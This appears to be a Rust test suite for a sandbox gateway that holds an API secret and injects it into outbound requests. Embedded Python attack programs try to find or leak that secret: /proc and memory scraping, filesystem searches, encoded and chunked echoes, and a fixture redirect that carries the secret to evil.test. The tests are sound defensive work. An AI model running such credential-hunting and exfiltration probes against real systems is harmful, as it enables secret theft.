//! Credentials are outside: nobody inside finds one, and none goes where it does not belong.

use base64::Engine;
use base64::engine::general_purpose::STANDARD;
use serde_json::json;

use crate::client::eventually;
use crate::origin::{Request, answer};
use crate::world::{Attack, ELSEWHERE, Inside, PUBLIC, World, in_a_world};

/// The attacks know it backwards, so that none of them finds itself.
const VALUE: &str = "sk-4f9a/held+by-the-gateway-alone=7c";

/// A world in which the secret goes to `api.test`, which programs inside may call `api.egress.internal`.
fn bind(world: &World) {
    assert_eq!(VALUE.chars().rev().collect::<String>(), "c7=enola-yawetag-eht-yb+dleh/a9f4-ks");
    world.secret("KEY", VALUE, &json!({ "host": "api.test", "form": "bearer", "base": "api" }));
    let shown = |request: &Request| request.header("authorization").trim_start_matches("Bearer ").to_owned();
    // Pages of a host that is allowed, and careless.
    world.outside.page("/base64", move |request| {
        let (bare, whole) = (STANDARD.encode(shown(request)), STANDARD.encode(&request.head));
        answer("200 OK", "", format!("{bare}\n{whole}\n"))
    });
    world.outside.page("/escaped", move |request| {
        let plain = |byte: u8| byte.is_ascii_alphanumeric() || b"-._~".contains(&byte);
        let escape =
            |byte: u8| if plain(byte) { char::from(byte).to_string() } else { format!("%{byte:02X}") };
        let escaped: String = shown(request).bytes().map(escape).collect();
        let in_json = shown(request).replace('/', "\\/");
        answer("200 OK", "", format!("{escaped}\n{}\n{in_json}\n", escaped.to_lowercase()))
    });
    world.outside.page("/drops", move |request| {
        let text = shown(request);
        let pieces = text
            .as_bytes()
            .chunks(3)
            .map(|piece| format!("{:x}\r\n{}\r\n", piece.len(), String::from_utf8_lossy(piece)));
        let chunks: String = pieces.collect();
        format!("HTTP/1.1 200 OK\r\ntransfer-encoding: chunked\r\n\r\n{chunks}0\r\nx-echo: {text}\r\n\r\n")
            .into()
    });
    world.outside.page("/location", move |request| {
        let headers = format!(
            "location: http://evil.test/take?{}\r\nset-cookie: key={}\r\n",
            shown(request),
            shown(request)
        );
        answer("302 Found", &headers, "")
    });
    world.outside.page("/packed", move |request| {
        // A compressed page cannot be searched; this stands for one.
        let packed: Vec<u8> = shown(request).bytes().map(|byte| byte ^ 0x80).collect();
        match request.header("accept-encoding").contains("gzip") {
            true => answer("200 OK", "content-encoding: gzip\r\n", packed),
            false => answer("200 OK", "", shown(request)),
        }
    });
}

/// It has just been used, so that whatever could hold it does.
fn use_it(inside: &Inside<'_>) {
    let answer = inside.prints("get('http://api.egress.internal/used')");
    assert!(answer.contains("REACHED GET /used"), "{answer}");
}

#[test]
fn a_secret_is_not_found_inside_and_goes_to_its_host_alone() {
    in_a_world(|world| {
        bind(world);
        let inside = world.sandbox("allow *.test; allow tcp://*.test:8443");
        use_it(&inside);
        let seen = world.outside.said_at(&format!("{PUBLIC}:443"));
        assert!(seen.iter().any(|said| said.contains(VALUE)), "it does go out: {seen:?}");
        inside.withstands(&ATTACKS);
        for place in [format!("{ELSEWHERE}:"), format!("{PUBLIC}:80"), format!("{PUBLIC}:8443")] {
            let said = world.outside.said_at(&place).concat();
            assert!(!said.contains(VALUE) && !said.contains(&STANDARD.encode(VALUE)), "{place}: {said}");
        }
    });
}

/// What is outside of the sandbox has it, and says it to nobody.
#[test]
fn a_secret_is_in_no_answer_log_or_bill() {
    in_a_world(|world| {
        bind(world);
        let inside = world.sandbox("allow *.test");
        use_it(&inside);
        let exec = inside.python("get('http://api.egress.internal/echo')");
        assert!(exec.to_string().contains("you sent"), "{exec}");
        let answers = [
            exec,
            inside.egress(),
            world.server.get("/api/v1/secrets").json(),
            world.server.get("/api/v1/secrets/KEY").json(),
            world.server.get("/api/v1/audit?limit=1000").json(),
            world.server.get(&format!("/api/v1/leases/{}", inside.lease)).json(),
        ];
        for answer in answers {
            assert!(!answer.to_string().contains(VALUE), "{answer}");
        }
        assert!(!world.server.said().contains(VALUE));
        // Nor in what anybody on the host can see of the gateway.
        let gateway = world.gateway().expect("it was used");
        for file in ["environ", "cmdline"] {
            let bytes = std::fs::read(format!("/proc/{gateway}/{file}")).expect("this is root");
            assert!(!String::from_utf8_lossy(&bytes).contains(VALUE), "{file}");
        }
    });
}

#[test]
fn another_tenant_and_another_template_have_nothing_of_it() {
    in_a_world(|world| {
        bind(world);
        let binding =
            json!({ "host": "other.test", "form": "header:x-key", "base": "other", "templates": ["python"] });
        world.secret("OTHER", "another-value-for-one-template", &binding);
        let own = world.sandbox("allow *.test");
        use_it(&own);
        let echo = own.prints("get('http://other.egress.internal/echo')");
        assert!(echo.contains("not configured"), "it is for another template: {echo}");
        let key = world.server.key_of("stranger", "mallory", &["run", "read", "manage"]);
        let stranger = world.leased_by(&key, &json!({ "egress": { "policy": "allow *.test" } }));
        stranger.withstands(&FROM_ANOTHER_TENANT);
        let listed = world.server.with_key("GET", "/api/v1/secrets", &json!(null), &key).ok();
        assert_eq!(listed["items"], json!([]));
        // The same name for the same host, and each has his own.
        let body = json!({ "value": "the-value-of-mallory", "bindings": [{ "host": "api.test", "form": "bearer", "base": "api" }] });
        world.server.with_key("PUT", "/api/v1/secrets/KEY", &body, &key).ok();
        eventually("the stranger's own secret", || {
            world.outside.forget();
            stranger.prints("get('http://api.egress.internal/used')");
            world.outside.heard_of("the-value-of-mallory").then_some(())
        });
        assert!(!world.outside.heard_of(VALUE));
        world.outside.forget();
        use_it(&own);
        assert!(world.outside.heard_of(VALUE) && !world.outside.heard_of("mallory"));
    });
}

#[test]
fn a_secret_that_is_rotated_or_removed_in_the_middle_is_not_used_any_more() {
    in_a_world(|world| {
        bind(world);
        let inside = world.sandbox("allow *.test");
        // One connection through all of it, as a client has that keeps one.
        let program = r#"
s = socket.create_connection(PROXY, timeout=20)
def once(number):
    s.sendall(f"GET /round-{number} HTTP/1.1\r\nHost: api.egress.internal\r\n\r\n".encode())
    got = b""
    while b"\r\n\r\n" not in got or b"REACHED" not in got and b"cubicle egress" not in got:
        piece = s.recv(4096)
        if not piece:
            break
        got += piece
    open(f"/workspace/answer-{number}", "wb").write(got)
number = 0
while not os.path.exists("/workspace/end"):
    if os.path.exists(f"/workspace/go-{number}"):
        once(number)
        number += 1
    time.sleep(0.01)
"#;
        inside.exec(&json!({ "command": inside.with_prelude(program), "background": true }));
        let round = |number: u32| {
            inside.sh(&format!("touch /workspace/go-{number}"));
            eventually("an answer", || {
                let answer = inside.sh(&format!("cat /workspace/answer-{number} 2>/dev/null || true"));
                (!answer.is_empty()).then_some(answer)
            })
        };
        assert!(round(0).contains("REACHED GET /round-0"));
        assert!(world.outside.heard_of(VALUE));
        world.server.put("/api/v1/secrets/KEY", &json!({ "value": "the-value-after-that" })).ok();
        world.outside.forget();
        let mut number = 1;
        eventually("the new value", || {
            let answer = round(number);
            assert!(answer.contains("REACHED"), "{answer}");
            number += 1;
            world.outside.heard_of("the-value-after-that").then_some(())
        });
        // A source that is gone is a refusal, and nothing goes out without it.
        let body = json!({ "from_file": "/nonexistent/key", "bindings": [{ "host": "api.test", "form": "bearer", "base": "api" }] });
        world.server.put("/api/v1/secrets/KEY", &body).ok();
        let answer = eventually("a refusal", || {
            let answer = round(number);
            number += 1;
            answer.contains("502 Bad Gateway").then_some(answer)
        });
        assert!(answer.contains("the secret 'KEY', which is bound to api.test, is not set"), "{answer}");
        assert!(answer.contains("cubicle secrets set KEY"), "{answer}");
        inside.sh("touch /workspace/end");
    });
}

const FROM_ANOTHER_TENANT: [Attack; 1] = [Attack {
    name: "the_secret_of_another_tenant_cannot_be_used",
    program: r#"
for host in ("api.egress.internal", "other.egress.internal"):
    get(f"http://{host}/ATTACK")
    print(ask(host))
get("http://api.test/echo")
answer = through(tunnel("api.test:80"), "GET /echo HTTP/1.1\r\nHost: api.test\r\nConnection: close\r\n\r\n")
print("REACHED" if "c7=enola-yawetag-eht-yb+dleh/a9f4-ks"[::-1] in answer else "nothing")
"#,
    denied: "unknown virtual host",
}];

const ATTACKS: [Attack; 13] = [
    Attack {
        name: "the_environment_of_no_process_holds_the_secret",
        program: r#"
needle = "c7=enola-yawetag-eht-yb+dleh/a9f4-ks"[::-1].encode()
seen = 0
for pid in filter(str.isdigit, os.listdir("/proc")):
    for name in ("environ", "cmdline", "comm", "status", "maps", "mountinfo", "net/unix", "net/tcp"):
        try:
            seen += 1
            print("REACHED" if needle in open(f"/proc/{pid}/{name}", "rb").read() else "", end="")
        except OSError as error:
            pass
print("REACHED" if needle.decode() in str(os.environ) else f"looked at {seen}")
os.system("env; set; export")
"#,
        denied: "",
    },
    Attack {
        name: "no_file_holds_the_secret",
        program: r#"
needle = "c7=enola-yawetag-eht-yb+dleh/a9f4-ks"[::-1].encode()
seen = 0
for top in ("/workspace", "/home", "/tmp", "/etc", "/run", "/var", "/dev/shm", "/opt", "/root", "/srv", "/mnt"):
    for root, folders, files in os.walk(top):
        for name in files:
            path = os.path.join(root, name)
            try:
                if os.path.isfile(path) and os.path.getsize(path) < 1 << 22:
                    seen += 1
                    if needle in open(path, "rb").read():
                        print("REACHED", path)
            except OSError:
                pass
print("looked at", seen, "files;", os.path.exists("/var/secrets"), os.path.exists("/proc/keys") and open("/proc/keys").read())
"#,
        denied: "",
    },
    Attack {
        name: "the_memory_of_no_process_holds_the_secret",
        program: r#"
needle = "c7=enola-yawetag-eht-yb+dleh/a9f4-ks"[::-1].encode()
import subprocess
# A client of the same user that has just used it.
client = subprocess.Popen(["python3", "-c", '''
import urllib.request, time
page = urllib.request.urlopen("http://api.egress.internal/used").read()
# Something that can be found, so that the search is one.
decoy = bytearray("-".join(["decoy", "in", str(len(page) * 1000), "memory"]).encode())
print(decoy.decode(), flush=True)
time.sleep(60)
'''], stdout=subprocess.PIPE)
decoy, found = client.stdout.readline().strip(), False
looked = []
for pid in filter(str.isdigit, os.listdir("/proc")):
    if int(pid) == os.getpid():
        continue
    try:
        with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as memory:
            for line in maps:
                first, last = (int(part, 16) for part in line.split()[0].split("-"))
                if " r" in line and last - first < 1 << 28:
                    try:
                        memory.seek(first)
                        bytes = memory.read(last - first)
                        found = found or decoy in bytes
                        if needle in bytes:
                            print("REACHED", pid, line)
                    except (OSError, ValueError):
                        pass
            looked.append(pid)
    except OSError as error:
        print(pid, error)
client.kill()
assert found, "the search finds nothing at all"
print("looked into", looked)
"#,
        denied: "",
    },
    Attack {
        name: "an_error_page_that_shows_the_request_does_not_show_the_secret",
        program: r#"
needle = "c7=enola-yawetag-eht-yb+dleh/a9f4-ks"[::-1]
for method in ("GET", "POST", "TRACE", "OPTIONS"):
    answer = talk(f"{method} http://api.egress.internal/echo HTTP/1.1\r\nHost: api.egress.internal\r\nConnection: close\r\n\r\n")
    assert "you sent" in answer and "x-seen: Bearer" in answer, answer
    print("REACHED" if needle in answer else "masked", answer.count("*"))
"#,
        denied: "",
    },
    Attack {
        name: "another_spelling_of_the_secret_is_masked_too",
        program: r#"
import urllib.parse, re
needle = "c7=enola-yawetag-eht-yb+dleh/a9f4-ks"[::-1]
for page in ("base64", "escaped"):
    body = get(f"http://api.egress.internal/{page}", host="api.egress.internal").split("\r\n\r\n", 1)[1]
    texts = [urllib.parse.unquote(body), body.replace("\\/", "/")]
    for word in re.findall(r"[A-Za-z0-9+/=]{16,}", body):
        for start in range(4):
            part = word[start:]
            texts.append(base64.b64decode(part[:len(part) // 4 * 4], validate=False).decode("latin-1"))
    print("REACHED" if any(needle[:20] in text or needle[-20:] in text for text in texts) else "masked")
"#,
        denied: "",
    },
    Attack {
        name: "a_secret_in_pieces_is_masked_too",
        program: r#"
needle = "c7=enola-yawetag-eht-yb+dleh/a9f4-ks"[::-1]
answer = talk("GET http://api.egress.internal/drops HTTP/1.1\r\nHost: api.egress.internal\r\nConnection: close\r\n\r\n")
body = "".join(line for line in answer.split("\r\n\r\n", 1)[1].split("\r\n") if line and len(line) > 2)
print("REACHED" if needle in body or needle in answer or needle[:12] in body else "masked", answer)
"#,
        denied: "",
    },
    Attack {
        name: "a_redirect_carries_no_secret_away",
        program: r#"
needle = "c7=enola-yawetag-eht-yb+dleh/a9f4-ks"[::-1]
answer = get("http://api.egress.internal/location", host="api.egress.internal")
print("REACHED" if needle in answer else "masked")
import urllib.request
for place in ("http://evil.test/echo", "http://api.test.evil.test/echo", "http://api.test/echo"):
    request = urllib.request.Request(f"http://api.egress.internal/redirect?{place}", headers={"Authorization": "Bearer placeholder"})
    try:
        body = urllib.request.urlopen(request).read().decode()
    except urllib.error.HTTPError as error:
        body = error.read().decode()
    print("REACHED" if needle in body else body)
"#,
        denied: "",
    },
    Attack {
        name: "a_compressed_answer_does_not_hide_the_secret",
        program: r#"
needle = "c7=enola-yawetag-eht-yb+dleh/a9f4-ks"[::-1]
for coding in ("gzip", "GZIP, br", "gzip;q=1.0, identity;q=0", "*"):
    answer = talk(f"GET http://api.egress.internal/packed HTTP/1.1\r\nHost: api.egress.internal\r\nAccept-Encoding: {coding}\r\nTE: gzip\r\nConnection: close, TE\r\n\r\n")
    unpacked = "".join(chr(ord(letter) ^ 0x80) for letter in answer if ord(letter) < 256)
    print("REACHED" if needle in answer or needle in unpacked else "masked")
"#,
        denied: "",
    },
    Attack {
        name: "a_host_that_looks_like_the_right_one_gets_no_secret",
        program: r#"
needle = "c7=enola-yawetag-eht-yb+dleh/a9f4-ks"[::-1]
for host in ("api.test.evil.test", "xapi.test", "api-test.test", "api.test.test", "evil.test"):
    for answer in (get(f"http://{host}/echo"),
                   through(secure(tunnel(f"{host}:443"), host), f"GET /echo HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n")):
        assert "you sent" in answer, answer
        print("REACHED" if needle in answer else "nothing")
"#,
        denied: "",
    },
    Attack {
        name: "a_secret_does_not_go_in_plain_text_or_to_another_port",
        program: r#"
needle = "c7=enola-yawetag-eht-yb+dleh/a9f4-ks"[::-1]
answers = [get("http://api.test/echo"), get("http://api.test:80/echo"), get("http://API.test./echo"),
           through(tunnel("api.test:80"), "GET /echo HTTP/1.1\r\nHost: api.test\r\nConnection: close\r\n\r\n"),
           through(secure(tunnel("api.test:443"), "api.test"), "GET /echo HTTP/1.1\r\nHost: api.test\r\nConnection: close\r\n\r\n"),
           through(secure(tunnel("api.test:8443"), "api.test"), "GET /echo HTTP/1.1\r\nHost: api.test:8443\r\nConnection: close\r\n\r\n")]
for answer in answers:
    assert "you sent" in answer, answer
    print("REACHED" if needle in answer else "nothing")
"#,
        denied: "",
    },
    Attack {
        name: "a_base_url_stands_for_its_host_alone",
        program: r#"
get("http://api.egress.internal/ATTACK", host="evil.test")
get("http://evil.test/ATTACK", host="api.egress.internal")
for host in ("x.api.egress.internal", "evil.egress.internal", "egress.internal", "api.egress.internal.evil.test", "api.egress.internal:8080", "api.egress.internal:443"):
    get(f"http://{host}/ATTACK")
get("http://api.egress.internal@evil.test/ATTACK", host="evil.test")
through(secure(tunnel("api.egress.internal:443"), "evil.test"), "GET /ATTACK HTTP/1.0\r\n\r\n")
through(tunnel("api.egress.internal:80"), "GET http://evil.test/ATTACK HTTP/1.1\r\nHost: evil.test\r\n\r\n")
through(tunnel("api.egress.internal:443"), "SSH-2.0-ATTACK\r\n")
"#,
        denied: "unknown virtual host",
    },
    Attack {
        name: "what_a_client_sends_in_the_place_of_the_secret_is_replaced",
        program: r#"
for more in ("Authorization: Bearer mine\r\n", "authorization: Basic bWluZQ==\r\nAUTHORIZATION: Bearer mine\r\n", "Connection: authorization\r\n",
             "Authorization: Bearer mine\r\nConnection: close, authorization\r\n", "Proxy-Authorization: Bearer mine\r\n"):
    answer = talk(f"GET http://api.egress.internal/echo HTTP/1.1\r\nHost: api.egress.internal\r\nConnection: close\r\n{more}\r\n").lower()
    assert "you sent" in answer, answer
    print("REACHED" if "mine" in answer or answer.count("authorization: ") != 1 else "replaced")
"#,
        denied: "",
    },
    Attack {
        name: "the_store_of_secrets_is_not_reached_from_inside",
        program: r#"
for url in ("http://127.0.0.1:$API/api/v1/secrets", "http://localhost:$API/api/v1/secrets/KEY", "http://api.egress.internal:$API/api/v1/secrets"):
    get(url)
direct("127.0.0.1", $API, data=b"GET /api/v1/secrets HTTP/1.0\r\n\r\n")
"#,
        denied: "not allowed",
    },
];
